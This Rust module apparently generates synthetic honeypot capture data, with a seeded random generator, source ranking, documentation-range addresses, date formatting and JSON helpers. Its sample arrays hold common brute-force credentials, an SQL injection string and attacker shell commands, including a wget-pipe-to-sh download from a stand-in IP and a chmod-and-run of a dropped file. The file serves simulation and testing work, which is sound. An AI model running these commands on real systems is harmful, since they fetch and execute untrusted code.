//! What the kinds of capture have in common: chance, time, sources, what attackers type, and JSON text.

pub(crate) const SECOND: u64 = 1_000_000;
pub(crate) const HOUR: u64 = 3600 * SECOND;

// Text that breaks careless code is part of every real capture: quotes, brackets, wildcards, other scripts.
pub(crate) const USERS: [&str; 16] = [
    "root",
    "admin",
    "root",
    "ubuntu",
    "pi",
    "oracle",
    "root",
    "test",
    "postgres",
    "support",
    "git",
    "user",
    "администратор",
    "管理员",
    "o'brien",
    "adm\"in",
];
pub(crate) const PASSWORDS: [&str; 18] = [
    "123456",
    "admin",
    "password",
    "root",
    "1234",
    "P@ssw0rd",
    "toor",
    "qwerty",
    "",
    "raspberry",
    "admin123",
    "пароль",
    "pa]ss\\word",
    "100%_sure",
    "' OR '1'='1",
    "\"quoted\"",
    "contraseña",
    "🦀🦀",
];
pub(crate) const COMMANDS: [&str; 14] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "w",
    "free -m",
    "crontab -l",
    "id; whoami",
    "cd /tmp || cd /var/run; wget http://198.51.100.7/x.sh -O- | sh",
    "echo \"$PATH\"",
    "history -c",
    "ls -la ~/",
    "echo -e '\\x6F\\x6B'",
    "chmod 777 /tmp/.x && /tmp/.x",
    "passwd root",
    "echo 'привет' > /tmp/ключ",
];

/// SplitMix64: a few lines, no dependency, and the same numbers everywhere.
pub(crate) struct Random(pub(crate) u64);

impl Random {
    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let z = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        let z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number from 0 to `limit` - 1.
    pub(crate) fn below(&mut self, limit: u64) -> u64 {
        ((u128::from(self.next()) * u128::from(limit)) >> 64) as u64
    }

    pub(crate) fn between(&mut self, low: u64, high: u64) -> u64 {
        low + self.below(high - low + 1)
    }

    pub(crate) fn percent(&mut self, chance: u64) -> bool {
        self.below(100) < chance
    }

    pub(crate) fn pick<'a, T: ?Sized>(&mut self, choices: &[&'a T]) -> &'a T {
        choices[self.below(choices.len() as u64) as usize]
    }
}

/// Where attacks come from: few sources are busy and most are rare, the r-th in proportion to 1/r.
pub(crate) struct Sources {
    cumulated: Vec<u64>,
}

impl Sources {
    pub(crate) fn new(count: u64) -> Self {
        let mut cumulated = Vec::new();
        let mut sum = 0;
        for rank in 1..=count {
            sum += (1 << 32) / rank;
            cumulated.push(sum);
        }
        Self { cumulated }
    }

    pub(crate) fn choose(&self, random: &mut Random) -> u64 {
        let total = self.cumulated.last().copied().unwrap_or(1);
        let point = random.below(total);
        self.cumulated.partition_point(|&upto| upto <= point) as u64
    }
}

pub(crate) fn address(rank: u64) -> String {
    let host = rank * 37 % 254 + 1;
    match rank % 7 {
        5 => format!("2001:db8:{:x}::{host:x}", rank % 29 + 16),
        n => format!("{}.{host}", ["192.0.2", "198.51.100", "203.0.113"][n as usize % 3]),
    }
}

/// Writes a time given in microseconds since the beginning of 2026 (UTC) as date and time, without fraction and zone.
pub(crate) fn calendar(micros: u64, separator: char) -> String {
    let seconds = micros / SECOND;
    let (mut year, mut month, mut day) = (2026, 0, seconds / 86_400);
    loop {
        let leap = year % 4 == 0 && (year % 100 != 0 || year % 400 == 0);
        let length = [31, 28 + u64::from(leap), 31, 30, 31, 30, 31, 31, 30, 31, 30, 31][month];
        if day < length {
            break;
        }
        day -= length;
        month += 1;
        if month == 12 {
            (year, month) = (year + 1, 0);
        }
    }
    let (hour, minute, second) = (seconds / 3600 % 24, seconds / 60 % 60, seconds % 60);
    format!("{year}-{:02}-{:02}{separator}{hour:02}:{minute:02}:{second:02}", month + 1, day + 1)
}

pub(crate) fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// A JSON object in the order given, which a map would not keep.
pub(crate) fn object(members: &[(&str, String)]) -> String {
    let members: Vec<_> = members.iter().map(|(name, value)| format!("{}:{value}", quoted(name))).collect();
    format!("{{{}}}", members.join(","))
}
